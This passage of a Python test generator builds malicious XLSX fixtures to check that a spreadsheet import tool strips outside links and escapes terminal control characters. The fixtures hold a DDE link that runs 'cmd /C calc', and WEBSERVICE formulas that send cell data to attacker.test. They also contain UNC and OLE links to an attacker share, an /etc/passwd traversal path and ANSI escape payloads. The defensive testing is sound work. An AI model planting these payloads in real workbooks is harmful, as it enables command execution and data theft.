        names = original.namelist()
        for name in names:
            data = original.read(name)
            change = changes.get(name)
            z.writestr(name, change(data) if callable(change) else data)
        for name, change in changes.items():
            if name not in names:
                assert isinstance(change, bytes), name
                z.writestr(name, change)
    return out.getvalue()


def _add_to(marker: bytes, addition: bytes, before: bool = True) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        assert marker in data, marker
        return data.replace(marker, addition + marker if before else marker + addition, 1)

    return change


def _with_r(data: bytes) -> bytes:
    """A worksheet root that declares the relationships prefix."""
    return data.replace(b"<worksheet ", f'<worksheet xmlns:r="{_REL}" '.encode(), 1)


def _external_link(part: str) -> dict[str, Callable[[bytes], bytes] | bytes]:
    """The workbook parts that make ``part`` (an externalLink's XML) its first external link."""
    return {
        "xl/workbook.xml": _add_to(
            b"<definedNames",
            b'<externalReferences><externalReference r:id="rIdX1"/></externalReferences>',
        ),
        "xl/_rels/workbook.xml.rels": _add_to(
            b"</Relationships>",
            f'<Relationship Id="rIdX1" Type="{_REL}/externalLink" '
            'Target="externalLinks/externalLink1.xml"/>'.encode(),
        ),
        "[Content_Types].xml": _add_to(
            b"</Types>",
            b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="'
            + _LINK_TYPE.encode()
            + b'"/>',
        ),
        "xl/externalLinks/externalLink1.xml": part.encode(),
    }


def _names(xml: str) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        return re.sub(rb"<definedNames\s*/>", f"<definedNames>{xml}</definedNames>".encode(), data)

    return change


def _sheet_extra(xml: str, after_data: bool = True) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        data = _with_r(data)
        marker = b"</sheetData>" if after_data else b"</worksheet>"
        return data.replace(
            marker, marker + xml.encode() if after_data else xml.encode() + marker, 1
        )

    return change


def _sheet_rels(xml: str) -> bytes:
    head = f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG}">'
    return f"{head}{xml}</Relationships>".encode()


def into_workbooks() -> dict[str, tuple[bytes, tuple[str, ...]]]:
    """``--into`` workbooks that ``score`` reads and whose copy must not keep what they
    hold: name -> (bytes, what the import must note as dropped: problem codes)."""
    dde = (
        f'<externalLink xmlns="{_MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc">'
        '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
    )
    ole = (
        f'<externalLink xmlns="{_MAIN}" xmlns:r="{_REL}"><oleLink r:id="rIdO" progId="Package">'
        '<oleItems><oleItem name="x" advise="1"/></oleItems></oleLink></externalLink>'
    )
    unc = (
        f'<externalLink xmlns="{_MAIN}" xmlns:r="{_REL}"><externalBook r:id="rId1"><sheetNames>'
        '<sheetName val="Anggaran"/></sheetNames></externalBook></externalLink>'
    )
    unc_rels = _sheet_rels(
        f'<Relationship Id="rId1" Type="{_REL}/externalLinkPath" '
        'Target="file:///\\\\fileserver\\share\\anggaran.xlsx" TargetMode="External"/>'
    )
    ole_rels = _sheet_rels(
        f'<Relationship Id="rIdO" Type="{_REL}/oleObject" Target="\\\\attacker\\share\\x.bin" '
        'TargetMode="External"/>'
    )
    webservice = (
        '<definedName name="Ambil">WEBSERVICE("http://attacker.test/?q="&amp;Aplikasi!$A$2)'
        '</definedName><definedName name="Xml">FILTERXML(WEBSERVICE("http://x.test"),"//a")'
        "</definedName><definedName name=\"Dde\">cmd|' /C calc'!A0</definedName>"
        '<definedName name="Lokal" localSheetId="3">HYPERLINK("http://x.test")</definedName>'
        '<definedName name="Luar">[1]Anggaran!$A$1</definedName>'
        '<definedName name="Rusak">Aplikasi!#REF!</definedName>'
        '<definedName name="Daftar">Aplikasi!$A$2:$A$50</definedName>'
        "<definedName name=\"Judul\">'Perangkat Daerah'!$A$1:$C$1</definedName>"
    )
    validation = (
        '<dataValidations count="2"><dataValidation type="list" allowBlank="1" sqref="B2:B9">'
        '<formula1>WEBSERVICE("http://attacker.test")</formula1></dataValidation>'
        '<dataValidation type="list" allowBlank="1" sqref="C2:C9"><formula1>"a|b,c[1]"'
        "</formula1></dataValidation></dataValidations>"
    )
    conditional = (
        '<conditionalFormatting sqref="A2:A9"><cfRule type="expression" priority="1">'
        '<formula>ISNUMBER(WEBSERVICE("http://attacker.test"))</formula></cfRule>'
        '</conditionalFormatting><conditionalFormatting sqref="D2:D9"><cfRule type="expression"'
        ' priority="2"><formula>$E2="aktif"</formula></cfRule></conditionalFormatting>'
    )
    sheet_rels = "xl/worksheets/_rels/sheet4.xml.rels"
    hyperlink = _sheet_rels(
        f'<Relationship Id="rIdH" Type="{_REL}/hyperlink" Target="\\\\server\\share\\doc.pdf" '
        'TargetMode="External"/>'
    )
    missing_drawing = _sheet_rels(
        f'<Relationship Id="rIdD" Type="{_REL}/drawing" Target="../drawings/drawing9.xml"/>'
    )
    missing_table = _sheet_rels(
        f'<Relationship Id="rIdT" Type="{_REL}/table" Target="../tables/table9.xml"/>'
    )
    comments = _sheet_rels(
        f'<Relationship Id="rIdC" Type="{_REL}/comments" Target="../comments9.xml"/>'
    )
    cases: dict[str, tuple[dict[str, Callable[[bytes], bytes] | bytes], tuple[str, ...]]] = {
        "dde-link": (_external_link(dde), ("import.dropped",)),
        "ole-link": (
            {**_external_link(ole), "xl/externalLinks/_rels/externalLink1.xml.rels": ole_rels},
            ("import.dropped",),
        ),
        "unc-link": (
            {**_external_link(unc), "xl/externalLinks/_rels/externalLink1.xml.rels": unc_rels},
            ("import.dropped",),
        ),
        "dde-link-no-part": (
            {**_external_link(dde)} | {"xl/externalLinks/externalLink1.xml": b"not xml"},
            ("import.dropped",),
        ),
        "formula-names": ({"xl/workbook.xml": _names(webservice)}, ("import.dropped",)),
        "validation-fetches": (
            {"xl/worksheets/sheet4.xml": _sheet_extra(validation)},
            ("import.dropped",),
        ),
        "conditional-fetches": (
            {"xl/worksheets/sheet4.xml": _sheet_extra(conditional)},
            ("import.dropped",),
        ),
        "hyperlink-unc": (
            {
                "xl/worksheets/sheet4.xml": _sheet_extra(
                    '<hyperlinks><hyperlink ref="A2" r:id="rIdH"/></hyperlinks>'
                ),
                sheet_rels: hyperlink,
            },
            (),
        ),
        "missing-drawing": (
            {
                "xl/worksheets/sheet4.xml": _sheet_extra('<drawing r:id="rIdD"/>', False),
                sheet_rels: missing_drawing,
            },
            (),
        ),
        "missing-table": (
            {
                "xl/worksheets/sheet4.xml": _sheet_extra(
                    '<tableParts count="1"><tablePart r:id="rIdT"/></tableParts>', False
                ),
                sheet_rels: missing_table,
            },
            (),
        ),
        "missing-comments": ({sheet_rels: comments}, ()),
        "rels-not-xml": ({sheet_rels: b"\x00\x01 not xml"}, ()),
        "rels-outside": (
            {
                "xl/_rels/workbook.xml.rels": _add_to(
                    b"</Relationships>",
                    f'<Relationship Id="rIdZ" Type="{_REL}/customXml" '
                    'Target="../../../etc/passwd"/>'.encode(),
                )
            },
            (),
        ),
        "connections": (
            {
                "xl/connections.xml": f'<connections xmlns="{_MAIN}"><connection id="1" '
                'name="web" type="4"><webPr url="http://attacker.test/"/></connection>'
                "</connections>".encode(),
                "xl/_rels/workbook.xml.rels": _add_to(
                    b"</Relationships>",
                    f'<Relationship Id="rIdK" Type="{_REL}/connections" '
                    'Target="connections.xml"/>'.encode(),
                ),
            },
            (),
        ),
        "vba-part": (
            {
                "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really",
                "xl/_rels/workbook.xml.rels": _add_to(
                    b"</Relationships>",
                    b'<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/'
                    b'relationships/vbaProject" Target="vbaProject.bin"/>',
                ),
            },
            (),
        ),
    }
    return {name: (edited_package(changes), dropped) for name, (changes, dropped) in cases.items()}


def _clean_copy(path: str, dropped: tuple[str, ...]) -> Check:
    """The written workbook reaches nothing outside itself; the dropped parts are noted."""

    def check(outcome: Outcome) -> list[str]:
        from smartserang.author.csvimport.workbook import reaches_outside

        found = []
        if outcome.code == 0:
            target = outcome.case.cwd / path
            found += [f"written: {what}" for what in reaches_outside(target.read_bytes())]
            with zipfile.ZipFile(target) as archive:
                rows = archive.read("xl/worksheets/sheet5.xml")
            if b"Taman Kota" not in rows:
                found.append("the rows were not imported")
        elif "[import.verify]" not in outcome.errors:
            found.append("refused without [import.verify]")
        found += [f"no [{code}] note" for code in dropped if f"[{code}]" not in outcome.errors]
        return found

    return check


def _written_cases(folder: Path, world: Path) -> Iterator[OutputCase]:
    for name, (data, dropped) in into_workbooks().items():
        case_dir = folder / f"written-{name}"
        case_dir.mkdir(exist_ok=True)
        shutil.copyfile(world / "wifi.csv", case_dir / "wifi.csv")
        into = f"{name}.xlsx"
        (case_dir / into).write_bytes(data)
        yield OutputCase(
            f"written-{name}-score",
            "written",
            ("score", into, "-f", "json"),
            case_dir,
            (into,),
            frozenset({0}),
        )
        args: tuple[str, ...] = (
            "import",
            "wifi.csv",
            "--into",
            into,
            *MAP,
            "-o",
            f"{name}-baru.xlsx",
        )
        yield OutputCase(
            f"written-{name}-import",
            "written",
            args,
            case_dir,
            (into, "wifi.csv"),
            frozenset({0}) if dropped else frozenset({0, 2}),
            check=_clean_copy(f"{name}-baru.xlsx", dropped),
        )
    in_place = folder / "written-in-place"
    in_place.mkdir(exist_ok=True)
    (in_place / "dde.xlsx").write_bytes(into_workbooks()["dde-link"][0])
    shutil.copyfile(world / "wifi.csv", in_place / "wifi.csv")
    args = ("import", "wifi.csv", "--into", "dde.xlsx", *MAP, "--in-place")
    yield OutputCase(
        "written-dde-link-in-place",
        "written",
        args,
        in_place,
        ("wifi.csv",),
        frozenset({0}),
        check=_clean_copy("dde.xlsx", ("import.dropped",)),
    )
    template = folder / "written-template"
    template.mkdir(exist_ok=True)
    yield OutputCase(
        "written-template",
        "written",
        ("template", "-o", "kosong.xlsx"),
        template,
        (),
        frozenset({0}),
        check=_clean_template("kosong.xlsx"),
    )


def _clean_template(path: str) -> Check:
    def check(outcome: Outcome) -> list[str]:
        from smartserang.author.csvimport.workbook import reaches_outside

        return [f"written: {w}" for w in reaches_outside((outcome.case.cwd / path).read_bytes())]

    return check


# ---------------------------------------------------------------- escapes

ESCAPES = "\x1b]0;pwned\x07 \x1b[2J\x9b31m\u202eTXT\u2066 \x1b[31m"
"""An OSC retitle, a clear screen, a C1 CSI, a right-to-left override and an isolate."""
_RAW = (
    b"\x1b]",
    b"\x1b[2J",
    b"\x1b[31m",
    b"\x07",
    b"\xc2\x9b",
    "\u202e".encode(),
    "\u2066".encode(),
)


def _xlsx_text(text: str) -> bytes:
    """``text`` as OOXML writes it: C0 controls as ``_xHHHH_``, XML-escaped."""
    from xml.sax.saxutils import escape

    coded = "".join(f"_x{ord(c):04X}_" if ord(c) < 0x20 else c for c in text)
    return escape(coded).encode()


def _no_raw_controls(outcome: Outcome, raws: tuple[bytes, ...] = _RAW) -> list[str]:
    """No control character of the data reaches stdout or stderr raw; the data did reach
    them, escaped (``\\x1b``, ``\\u202e``) or named (``U+001B`` in a refusal)."""
    found = []
    for label, data in (("stdout", outcome.stdout), ("stderr", outcome.stderr)):
        found += [f"{label} holds {raw!r}" for raw in raws if raw in data]
    shown = outcome.stdout + outcome.stderr
    if not any(sign in shown for sign in (b"\\x1b", b"\\u202e", b"U+001B")):
        found.append("no escaped control character shown: the data did not reach the output")
    return found


def _no_raw_c0_c1(outcome: Outcome) -> list[str]:
    """A document keeps bidirectional marks as written; control characters never."""
    return _no_raw_controls(outcome, _RAW[:5])


def _escape_cases(folder: Path, world: Path) -> Iterator[OutputCase]:
    case_dir = _plain_world(folder, world, "escapes")
    coded = _xlsx_text(ESCAPES)
    book = edited_package(
        {
            "xl/worksheets/sheet1.xml": lambda d: d.replace(b"Pemerintah Kota Sukamaju", coded),
            "xl/worksheets/sheet4.xml": lambda d: d.replace(b"Tabungan sampah", coded).replace(
                b"<t>Catatan</t>", b"<t>Cat" + coded + b"</t>"
            ),
        }
    )
    (case_dir / "esc.xlsx").write_bytes(book)
    shutil.copyfile(EXAMPLE, case_dir / "books" / f"esc{ESCAPES}.xlsx")
    # a level no vocabulary knows: the error's message carries the cell's text
    error = edited_package(
        {
            "xl/worksheets/sheet4.xml": lambda d: d.replace(
                b"<t>interaksi</t>", b"<t>" + coded + b"</t>", 1
            )
        }
    )
    (case_dir / "esc-error.xlsx").write_bytes(error)
    (case_dir / "esc.csv").write_text(
        f"nama,kecamatan,jenis\nTaman{ESCAPES},Serang,wifi publik\nAlun-alun,Serang,wifi publik\n",
        encoding="utf-8",
    )
    (case_dir / f"kol{ESCAPES}.csv").write_text(f"nama{ESCAPES},jenis\nA,wifi publik\n", "utf-8")
    # A set may not hold control characters (refused, located); it may hold bidi marks.
    quoted = ESCAPES.replace("\x1b", "\\e").replace("\x07", "\\a").replace("\x9b", "\\x9b")
    (case_dir / "esc.yaml").write_text(
        MINI.replace("title: Mini", f'title: "Mini {quoted}"'), encoding="utf-8"
    )
    (case_dir / "bidi.yaml").write_text(
        MINI.replace("title: Mini", 'title: "Mini \\u202eTXT\\u2066"').replace(
            "name: Satu", 'name: "Satu \\u202e\\u2067"'
        ),
        encoding="utf-8",
    )
    inputs = ("esc.xlsx", "esc.csv", "esc.yaml", "bidi.yaml")
    runs: list[tuple[str, tuple[str, ...], frozenset[int]]] = [
        ("score-text", ("score", "esc.xlsx"), frozenset({0})),
        ("score-text-bidi-set", ("score", "esc.xlsx", "--set", "bidi.yaml"), frozenset({0})),
        ("score-refused-set", ("score", "esc.xlsx", "--set", "esc.yaml"), frozenset({2})),
        ("score-error", ("score", "esc-error.xlsx"), frozenset({2})),
        ("check-error", ("check", "esc-error.xlsx"), frozenset({2})),
        ("diff-error", ("diff", "esc-error.xlsx", "esc.xlsx"), frozenset({2})),
        ("rollup-text", ("score", "books", "--set", "bidi.yaml"), frozenset({0})),
        ("diff-text", ("diff", "books/kota.xlsx", "esc.xlsx"), frozenset({0})),
        (
            "check",
            ("check", f"books/esc{ESCAPES}.xlsx", "--set", "bidi.yaml", "--min", "G1=5"),
            frozenset({1}),
        ),
        ("check-name", ("check", f"books/esc{ESCAPES}.xlsx", "--min-index", "5"), frozenset({1})),
        (
            "import",
            ("import", "esc.csv", "--into", "esc.xlsx", *MAP, "-o", "esc-baru.xlsx"),
            frozenset({0}),
        ),
        (
            "import-header",
            (
                "import",
                f"kol{ESCAPES}.csv",
                "--into",
                "esc.xlsx",
                "--sheet",
                "Fasilitas",
                "--map",
                f"Nama=nama{ESCAPES}",
                "--set-column",
                "Jenis=wifi publik",
                "-o",
                "esc-kol.xlsx",
            ),
            frozenset({0, 2}),
        ),
        (
            "import-set-column",
            (
                "import",
                "esc.csv",
                "--into",
                "esc.xlsx",
                "--sheet",
                "Fasilitas",
                "--map",
                "Nama=nama",
                "--set-column",
                f"Jenis={ESCAPES}",
                "-o",
                "esc-x.xlsx",
            ),
            frozenset({0, 2}),
        ),
        (
            "baseline",
            ("baseline", f"books/esc{ESCAPES}.xlsx", "--set", "bidi.yaml", "-o", "esc-b.json"),
            frozenset({0}),
        ),
    ]
    for name, args, expect in runs:
        yield OutputCase(
            f"escapes-{name}", "escapes", args, case_dir, inputs, expect, check=_no_raw_controls
        )
    yield OutputCase(
        "escapes-score-md",
        "escapes",
        ("score", "esc.xlsx", "-f", "md"),
        case_dir,
        inputs,
        frozenset({0}),
        check=_no_raw_c0_c1,
    )
    for name in ("score-text", "diff-text", "score-text-bidi-set"):
        args = next(a for n, a, _ in runs if n == name)
        yield OutputCase(
            f"escapes-{name}-pty",
            "escapes",
            args,
            case_dir,
            inputs,
            frozenset({0}),
            stdout="pty",
            check=_no_raw_controls,
        )


# ---------------------------------------------------------------- all of them


def cases(folder: Path, *, big: bool = False) -> list[OutputCase]:
    """Every case, its files made under ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    world = _world(folder)
    found = [
        *_guard_cases(folder, world, big),
        *_ordinary_cases(folder, world),
        *_name_cases(folder, world),
        *_locale_cases(folder, world),
        *_json_cases(folder, world),
        *_signal_cases(folder, world),
        *_written_cases(folder, world),
        *_escape_cases(folder, world),
    ]
    names = [c.name for c in found]
    assert len(set(names)) == len(names), "duplicate case names"
    return found
